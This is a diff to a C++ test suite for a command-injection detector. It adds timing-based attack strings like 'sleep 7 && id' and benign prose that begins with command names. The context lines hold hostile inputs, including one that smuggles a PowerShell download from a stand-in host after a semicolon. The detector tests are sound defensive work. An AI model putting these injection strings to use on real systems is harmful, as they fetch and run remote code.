@@ -56,6 +56,8 @@ TEST(CmdiTest, DetectsAttacks) {
       "nice -n 10 sh -c id",
       ";iwr http://198.51.100.7/x.ps1",
       "Invoke-WebRequest http://198.51.100.7/x.ps1 -OutFile x.ps1",
+      "sleep 7",
+      "sleep 7 && id",
   };
   for (const std::string& a : attacks) {
     Case c;
@@ -74,6 +76,10 @@ TEST(CmdiTest, IgnoresBenign) {
       "salt & pepper; sugar",
       "I ls the files",
       "cat videos",
+      // A count then a word: prose that opens with a command's name.
+      "timeout 5 minutes, then retry",
+      "sleep 8 hours a night",
+      "ping 3 times before giving up",
       "| a | b |\n| c | d |",
       "C:\\Program Files\\App",
       "Name & ID",
